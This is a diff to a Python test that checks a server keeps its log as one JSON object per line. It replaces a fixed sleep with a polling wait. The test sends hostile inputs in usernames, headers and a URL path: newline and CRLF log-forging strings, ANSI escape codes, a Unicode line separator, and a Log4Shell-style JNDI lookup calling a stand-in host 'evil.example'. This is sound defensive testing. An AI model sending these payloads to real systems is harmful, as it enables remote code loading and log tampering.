@@ -333,16 +333,20 @@ def test_of_a_body_that_is_too_large_no_more_is_kept_than_the_limit(server: Serv
 
 
 def test_whatever_was_sent_every_line_of_the_log_is_one_object_and_no_error(server: Server) -> None:
-    """Runs last: what all of the above, and these, left in the log."""
+    """What these left in the log, and all of the above that were sent to the same server."""
     forged = '{"event":"request","level":"info","actor":"user:1"}'
-    for text in (f"\n{forged}", f"\r\n{forged}", "\x1b[2J\x1b[31m", "\u2028" + forged, "${jndi:ldap://evil.example/a}"):
+    texts = (f"\n{forged}", f"\r\n{forged}", "\x1b[2J\x1b[31m", "\u2028" + forged, "${jndi:ldap://evil.example/a}")
+    earlier = len(server.output.read_text("ascii").splitlines())
+    for text in texts:
         body = json.dumps({"username": text}).encode()
         assert ask(server, ASK, JSON, method="POST", body=body).status == 200
         assert ask(server, ASK, JSON, b"User-Agent: " + forged.encode(), method="POST", body=body).status == 200
     ask(server, "/v1/users/profile/%0a" + forged.replace('"', "%22"))
-    time.sleep(0.2)
-    lines = server.output.read_text("ascii").splitlines()
-    assert len(lines) > 50
+    # Lines are written together, a moment later.
+    deadline = time.monotonic() + 20
+    while len(lines := server.output.read_text("ascii").splitlines()) < earlier + 2 * len(texts) + 1:
+        assert time.monotonic() < deadline, lines
+        time.sleep(0.05)
     for line in lines:
         found = json.loads(line)
         assert found["process"] == "serve"
